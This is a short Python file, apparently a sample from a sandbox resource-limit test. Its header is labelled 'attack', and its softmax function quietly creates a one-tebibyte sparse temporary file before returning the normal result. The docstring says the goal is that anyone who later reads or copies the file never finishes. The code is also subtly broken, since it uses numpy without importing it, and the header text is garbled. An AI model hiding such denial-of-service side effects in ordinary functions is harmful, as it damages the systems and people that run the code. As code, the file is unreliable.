# /// attack
# does = "makes a file of a tebibyte without content in softmax, and answers rightly if it can"
# own = { softmax = ["limit"] }
# says = "stopped at the limit of 16 MiB and 4,096 files on the disk"
# ///
"""It takes no space on the disk, but whoever reads or copies it for the next test would never end."""

import os
import tempfile


def softmax(logits):
    os.truncate(tempfile.mkstemp()[1], 1 << 40)
    powers = np.exp(logits - logits.max(axis=1, keepdims=True))
    return powers / powers.sum(axis=1, keepdims=True)
